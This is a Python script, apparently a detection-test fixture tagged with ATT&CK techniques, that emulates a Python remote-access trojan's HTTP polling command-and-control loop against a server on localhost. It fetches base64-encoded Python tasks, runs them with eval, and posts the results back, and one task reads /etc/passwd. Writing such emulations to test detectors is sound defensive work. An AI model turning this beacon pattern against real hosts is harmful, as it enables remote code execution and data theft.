# technique: T1071.001 T1059.006 T1132.001 T1041
"""HTTP polling C2 with Python tasks (T1071.001, T1059.006, T1132.001).

Beacon loop of Python RATs (e.g. Medusa/Mythic Python agents, "EvilOSX"):
every interval (jittered, here 0.1 s) GET /tasks, the reply is JSON holding
base64 Python source; the agent runs it with eval(compile(...)) capturing the
value, and POSTs the result back base64-encoded. Three polls are made.

A good detector raises a high alert: code received over HTTP is compiled and
run, with results sent back.
"""
import base64, http.server, json, random, threading, time, urllib.request

TASKS = [base64.b64encode(s.encode()).decode() for s in
         ("__import__('os').getcwd()", "__import__('platform').platform()", "len(open('/etc/passwd').read())")]
class H(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        body = json.dumps({"task": TASKS.pop(0) if TASKS else None}).encode()
        self.send_response(200); self.end_headers(); self.wfile.write(body)
    def do_POST(self):
        self.rfile.read(int(self.headers["Content-Length"])); self.send_response(200); self.end_headers()
    def log_message(self, *a): pass
srv = http.server.HTTPServer(("127.0.0.1", 0), H)
threading.Thread(target=srv.serve_forever, daemon=True).start()
url = f"http://127.0.0.1:{srv.server_address[1]}"
try:
    for _ in range(3):
        t = json.loads(urllib.request.urlopen(url + "/tasks", timeout=3).read())["task"]
        if t:
            res = eval(compile(base64.b64decode(t).decode(), "<task>", "eval"))
            urllib.request.urlopen(urllib.request.Request(url + "/result", data=base64.b64encode(repr(res).encode())), timeout=3).read()
        time.sleep(0.1 * random.random())
except Exception:
    pass
finally:
    srv.shutdown()
